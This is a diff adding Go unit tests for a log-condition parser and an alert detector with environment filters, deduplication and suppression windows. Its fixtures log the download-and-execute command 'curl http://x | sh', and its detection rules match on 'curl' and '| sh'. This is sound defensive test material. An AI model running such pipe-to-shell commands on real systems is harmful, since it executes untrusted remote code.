@@ -0,0 +1,67 @@
+package logging
+
+import (
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestParseCondition(t *testing.T) {
+	row := map[string]interface{}{
+		"name":    "pack_incident_shell_history",
+		"action":  "added",
+		"columns": map[string]interface{}{"command": "curl http://x | sh", "uid": "501"},
+	}
+	cases := map[string]bool{
+		`name == "pack_incident_shell_history" AND columns.command contains "| sh"`: true,
+		`name == "other" OR (action == "added" AND columns.uid > 500)`:              true,
+		`NOT columns.command matches "^curl"`:                                       false,
+		`columns.missing exists`:                                                    false,
+		`columns.missing != "x" and columns.uid <= 501`:                             true,
+		`columns.command startswith "curl" AND columns.command endswith "sh"`:       true,
+	}
+	for expr, expected := range cases {
+		cond, err := ParseCondition(expr)
+		assert.NoError(t, err, expr)
+		assert.Equal(t, expected, cond.Eval(row), expr)
+	}
+	for _, expr := range []string{``, `name ==`, `name is "x"`, `(name == "x"`, `name == "x" AND`, `name matches "["`, `name == "x`} {
+		_, err := ParseCondition(expr)
+		assert.Error(t, err, expr)
+	}
+}
+
+func TestDetectorEvaluate(t *testing.T) {
+	d, err := NewDetector(DetectionConfiguration{Rules: []DetectionRule{
+		{Name: "shell", Environments: []string{"prod*"}, Condition: `columns.command contains "curl"`, Suppress: "1h", Dedup: []string{"columns.command"}},
+		{Name: "ports", Condition: `name == "listening_ports" AND action == "added"`},
+	}})
+	assert.NoError(t, err)
+	now := time.Now()
+	logs := []byte(`[
+		{"name":"shell_history","action":"added","columns":{"command":"curl x | sh"}},
+		{"name":"shell_history","action":"added","columns":{"command":"curl x | sh"}},
+		{"name":"listening_ports","diffResults":{"added":[{"port":"22"}],"removed":[{"port":"80"}]}}
+	]`)
+	alerts, err := d.Evaluate("production", "uuid1", logs, now)
+	assert.NoError(t, err)
+	assert.Len(t, alerts, 2)
+	assert.Equal(t, "shell", alerts[0].Rule)
+	assert.Equal(t, DefaultAlertSeverity, alerts[0].Severity)
+	assert.Equal(t, "ports", alerts[1].Rule)
+	assert.JSONEq(t, `{"name":"listening_ports","action":"added","columns":{"port":"22"}}`, alerts[1].Data)
+	assert.Equal(t, int64(1), d.Suppressed())
+	// Other environments and expired windows are not suppressed
+	alerts, err = d.Evaluate("dev", "uuid1", logs, now)
+	assert.NoError(t, err)
+	assert.Len(t, alerts, 1)
+	alerts, err = d.Evaluate("production", "uuid1", logs[:0:0], now)
+	assert.Error(t, err)
+	assert.Nil(t, alerts)
+	alerts, err = d.Evaluate("production", "uuid1", logs, now.Add(2*time.Hour))
+	assert.NoError(t, err)
+	assert.Len(t, alerts, 2)
+	_, err = NewDetector(DetectionConfiguration{Rules: []DetectionRule{{Name: "x", Condition: `a == "b"`, Outputs: []string{"missing"}}}})
+	assert.Error(t, err)
+}